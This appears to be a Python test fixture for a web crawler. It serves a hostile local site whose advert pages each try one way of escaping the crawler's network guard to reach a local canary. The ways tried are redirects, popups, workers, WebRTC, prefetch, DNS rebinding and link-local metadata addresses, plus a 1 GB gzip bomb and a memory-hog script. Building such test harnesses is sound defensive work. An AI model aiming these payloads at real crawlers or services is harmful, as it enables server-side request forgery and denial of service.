"""A hostile browser platform: every way a rendered page has tried to reach past the guard.

Served on ``127.0.0.18`` over HTTP and over HTTPS (a self-signed certificate
made at start), aimed at a :class:`~crawler.demo.canary.Canary` on 127.0.0.1.
Each advert ``/ad/<technique>`` is an ordinary advert (title, name, phone)
whose script tries one technique of issue 14 and then shows ``#done``; the
canary's paths name the technique (``/leak/<technique>``), so a hit says which
one got through. Techniques:

* ``redirects``: same-origin URLs that 302 to the canary, used as img, css,
  script, iframe, fetch and XHR;
* ``doc-redirect``: the advert's document itself 302s to the canary;
* ``popups``: ``window.open``, ``<a target=_blank>`` and a ``<form
  target=_blank method=post>``;
* ``workers``: fetch and WebSocket from a dedicated and a shared worker;
* ``webrtc``: ICE gathering against a STUN server (UDP) and a TURN server over TCP;
* ``prefetch``: speculation rules prefetching a same-origin redirect and the
  canary directly;
* ``rebind``: fetches from a name (``rebind.test``) the crawl's test resolves
  to the platform first and to 127.0.0.1 next;
* ``linklocal``: 169.254.169.254 and [fe80::1] (only when ``link_local``; a
  guard must refuse them by class, never connect);
* ``bomb``: ``fetch('/bomb').then(r => r.arrayBuffer())``, 1 MB of gzip
  inflating to 1 GB;
* ``hog`` (only when named in ``only``): a script that fills 32 MB arrays as
  fast as it can, up to 4 GB, the plainest way a page eats memory; for the
  memory-ceiling test, whose watchdog must kill the browser.
"""

from __future__ import annotations

import json
import tempfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from crawler.demo.bomb import gzip_zeros
from crawler.demo.canary import LINK_LOCAL_V4, LINK_LOCAL_V6, Canary
from crawler.demo.selfsigned import server_context

NAME = "hostile_browser"
HOST = "127.0.0.18"
REBIND_NAME = "rebind.test"
BOMB_INFLATED = 1024 * 1024 * 1024
SETTLE_MS = 2500
TECHNIQUES = (
    "redirects",
    "doc-redirect",
    "popups",
    "workers",
    "webrtc",
    "prefetch",
    "rebind",
    "linklocal",
    "bomb",
)
OPT_IN = ("hog",)
"""Techniques served only when named in ``only``."""
HOG_LIMIT_MB = 4096
# Where each technique's attempts land on the canary (``/leak/<path>``), by technique.
LEAKS = {
    "redirects": ("img", "css", "script", "iframe", "fetch", "xhr"),
    "doc-redirect": ("document",),
    "popups": ("window-open", "a-blank", "form-blank"),
    "workers": ("worker-fetch", "worker-ws", "shared-fetch", "shared-ws"),
    "webrtc": ("stun-udp", "turn-tcp"),
    "prefetch": ("prefetch-redirect", "prefetch-direct"),
    "rebind": ("rebind",),
}

DEFINITION = """\
schema_version = 1

[platform]
name = "{name}"
country = "GB"
language = "en"
start_urls = ["{start}"]
allowed_hosts = ["{host}", "{rebind}"]

[listing]
render = "static"
ad_links = "css:ul#ads a.ad::attr(href)"

[detail]
render = "browser"
actions = [{{ wait = "css:#done", timeout = {wait} }}]
external_id = {{ from = "url", re = "/ad/([a-z-]+)$" }}
title = "css:h1.title"
body = "css:div.contacts"
name = "css:span.name::text"
contacts = "css:div.contacts"
"""


def bomb_body() -> bytes:
    """1 GB of zeros as about 1 MB of gzip (crawler/demo/bomb.py: built in about a second)."""
    return gzip_zeros(BOMB_INFLATED)


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False

    def handle_error(self, request: Any, client_address: Any) -> None:
        """Quiet: browsers drop connections (a closed page, a refused bomb)."""

    def __init__(self, site: HostileBrowserSite, scheme: str) -> None:
        self.site = site
        self.scheme = scheme
        super().__init__((HOST, 0), _Handler)


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: _Server

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - stdlib signature
        """Quiet: the canary's log is the record."""

    def do_GET(self) -> None:
        try:
            self.server.site.route(self)
        except (BrokenPipeError, ConnectionResetError):
            self.close_connection = True

    def do_POST(self) -> None:
        self.do_GET()

    def send(self, status: int, body: bytes, ctype: str = "text/html; charset=utf-8",
             headers: dict[str, str] | None = None) -> None:  # fmt: skip
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)


class HostileBrowserSite:
    """The platform's servers (HTTP and HTTPS on ``HOST``) aimed at one canary."""

    def __init__(self, canary: Canary, link_local: bool = True, only: tuple[str, ...] = ()) -> None:
        self.canary = canary
        self.link_local = link_local
        self.only = only
        """Serve only these techniques (all when empty)."""
        self._dir = tempfile.TemporaryDirectory(prefix="hostile-browser-")
        context = server_context(Path(self._dir.name), HOST, (REBIND_NAME,))
        self.http = _Server(self, "http")
        self.https = _Server(self, "https")
        self.https.socket = context.wrap_socket(self.https.socket, server_side=True)
        self._bomb: bytes | None = None
        self._threads: list[threading.Thread] = []

    def __enter__(self) -> HostileBrowserSite:
        for server in (self.http, self.https):
            t = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.1},
                                 daemon=True, name=f"{NAME}-{server.scheme}")  # fmt: skip
            t.start()
            self._threads.append(t)
        return self

    def __exit__(self, *exc: Any) -> None:
        for server in (self.http, self.https):
            server.shutdown()
            server.server_close()
        for t in self._threads:
            t.join(timeout=5)
        self._dir.cleanup()

    def base_url(self, scheme: str) -> str:
        server = self.http if scheme == "http" else self.https
        return f"{scheme}://{HOST}:{server.server_address[1]}"

    def techniques(self) -> list[str]:
        served = (*TECHNIQUES, *OPT_IN) if self.only else TECHNIQUES
        chosen = [t for t in served if not self.only or t in self.only]
        return [t for t in chosen if self.link_local or t != "linklocal"]

    def definition(self, scheme: str, wait: int = 60) -> str:
        """The platform's definition; ``wait``: seconds an advert may take to say it is done."""
        return DEFINITION.format(
            name=NAME, start=self.base_url(scheme) + "/", host=HOST, rebind=REBIND_NAME, wait=wait
        )

    @property
    def bomb(self) -> bytes:
        if self._bomb is None:
            self._bomb = bomb_body()
        return self._bomb

    # -- routes ------------------------------------------------------------------

    def route(self, h: _Handler) -> None:
        path = h.path.split("?", 1)[0]
        leak = f"http://127.0.0.1:{self.canary.http_port}/leak/"
        if path == "/robots.txt":
            h.send(200, b"User-agent: *\nAllow: /\n", "text/plain")
        elif path == "/":
            links = "".join(
                f'<li><a class="ad" href="/ad/{t}">{t}</a></li>' for t in self.techniques()
            )
            h.send(200, _page("Hostile browser board", f'<ul id="ads">{links}</ul>'))
        elif path.startswith("/r/"):  # same-origin URL, redirected to the canary
            h.send(302, b"", headers={"Location": leak + path[3:]})
        elif path == "/ad/doc-redirect":
            h.send(302, b"", headers={"Location": leak + "document"})
        elif path.startswith("/ad/") and path[4:] in self.techniques():
            h.send(200, _page(path[4:], _advert(path[4:]) + self._attack(path[4:], leak)))
        elif path == "/worker.js":
            h.send(
                200,
                _WORKER.replace("LEAK", leak).replace("KIND", "worker").encode(),
                "text/javascript",
            )
        elif path == "/shared.js":
            h.send(200, _SHARED.replace("LEAK", leak).encode(), "text/javascript")
        elif path == "/shared-ll.js":
            c = self.canary.http_port
            script = "onconnect = () => 0;\n" + "".join(
                f"fetch('{u}shared', {{mode: 'no-cors'}}).catch(() => 0);\n"
                for u in (f"http://{LINK_LOCAL_V4}:{c}/", f"http://[{LINK_LOCAL_V6}]:{c}/")
            )
            h.send(200, script.encode(), "text/javascript")
        elif path == "/bomb":
            h.send(200, self.bomb, "application/octet-stream", {"Content-Encoding": "gzip"})
        elif path == "/ok":
            h.send(200, b"ok", "text/plain", {"Access-Control-Allow-Origin": "*"})
        else:
            h.send(404, _page("not found", "<p>not found</p>"))

    def _attack(self, technique: str, leak: str) -> str:
        c = self.canary
        done = f"setTimeout(() => {{ const d = document.createElement('div'); d.id = 'done'; document.body.append(d); }}, {SETTLE_MS});"
        if technique == "redirects":
            inner = (
                '<img src="/r/img"><link rel="stylesheet" href="/r/css"><script src="/r/script"></script>'
                '<iframe src="/r/iframe"></iframe>'
                "<script>fetch('/r/fetch').catch(() => 0);"
                "const x = new XMLHttpRequest(); x.open('GET', '/r/xhr'); x.send();</script>"
            )
        elif technique == "popups":
            inner = (
                f'<a id="ab" target="_blank" href="{leak}a-blank">open</a>'
                f'<form id="fb" target="_blank" method="post" action="{leak}form-blank">'
                '<input name="q" value="1"></form>'
                f"<script>window.open('{leak}window-open');"
                "document.getElementById('ab').click(); document.getElementById('fb').submit();</script>"
            )
        elif technique == "workers":
            inner = (
                "<script>new Worker('/worker.js');"
                "try { new SharedWorker('/shared.js').port.start(); } catch (e) {}</script>"
            )
        elif technique == "webrtc":
            ice = json.dumps([
                {"urls": f"stun:127.0.0.1:{c.udp_port}"},
                {"urls": f"turn:127.0.0.1:{c.tcp_ports[0]}?transport=tcp",
                 "username": "u", "credential": "p"},
            ])  # fmt: skip
            inner = (
                f"<script>const pc = new RTCPeerConnection({{iceServers: {ice}}});"
                "pc.createDataChannel('x');"
                "pc.createOffer().then(o => pc.setLocalDescription(o)).catch(() => 0);</script>"
            )
        elif technique == "prefetch":
            rules = {
                "prefetch": [
                    {"source": "list", "urls": ["/r/prefetch-redirect", leak + "prefetch-direct"]}
                ]
            }
            inner = f'<script type="speculationrules">{json.dumps(rules)}</script>'
        elif technique == "rebind":
            url = f"http://{REBIND_NAME}:{c.http_port}/leak/rebind"
            inner = f"<script>for (let i = 0; i < 3; i++) fetch('{url}', {{mode: 'no-cors'}}).catch(() => 0);</script>"
        elif technique == "linklocal":
            v4, v6 = (
                f"http://{LINK_LOCAL_V4}:{c.http_port}/",
                f"http://[{LINK_LOCAL_V6}]:{c.http_port}/",
            )
            inner = (
                f'<img src="{v4}img"><script>fetch("{v6}fetch", {{mode: "no-cors"}}).catch(() => 0);'
                # page.route does not see a shared worker: these reach the proxy
                "try { new SharedWorker('/shared-ll.js').port.start(); } catch (e) {}</script>"
            )
        elif technique == "bomb":
            # #done only once the bomb has been read (or refused): the page stays open meanwhile
            return (
                "<script>fetch('/bomb').then(r => r.arrayBuffer())"
                ".then(b => document.body.dataset.bomb = String(b.byteLength)).catch(() => 0)"
                ".finally(() => { const d = document.createElement('div'); d.id = 'done';"
                " document.body.append(d); });</script>"
            )
        elif technique == "hog":
            # #done never comes: the page grows until something stops it
            return (
                "<script>const hog = []; const grow = () => { if (hog.length * 32 < "
                f"{HOG_LIMIT_MB}) {{ hog.push(new Uint8Array(32 << 20).fill(7)); setTimeout(grow, 0); }} }};"
                " grow();</script>"
            )
        else:
            inner = ""
        return inner + f"<script>{done}</script>"


_WORKER = """
fetch('LEAKKIND-fetch', {mode: 'no-cors'}).catch(() => 0);
try { const ws = new WebSocket('LEAKKIND-ws'.replace('http', 'ws')); ws.onerror = () => 0; } catch (e) {}
"""
_SHARED = "onconnect = () => 0;\n" + _WORKER.replace("KIND", "shared")


def _advert(technique: str) -> str:
    return (
        f'<h1 class="title">Room offer ({technique})</h1><p>by <span class="name">Ada Quill</span></p>'
        '<div class="contacts">Call +44 7700 900123</div>'
    )


def _page(title: str, inner: str) -> bytes:
    return (
        f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>{title}</title></head>'
        f"<body>{inner}</body></html>"
    ).encode()


__all__ = ["HOST", "LEAKS", "NAME", "REBIND_NAME", "TECHNIQUES", "HostileBrowserSite"]
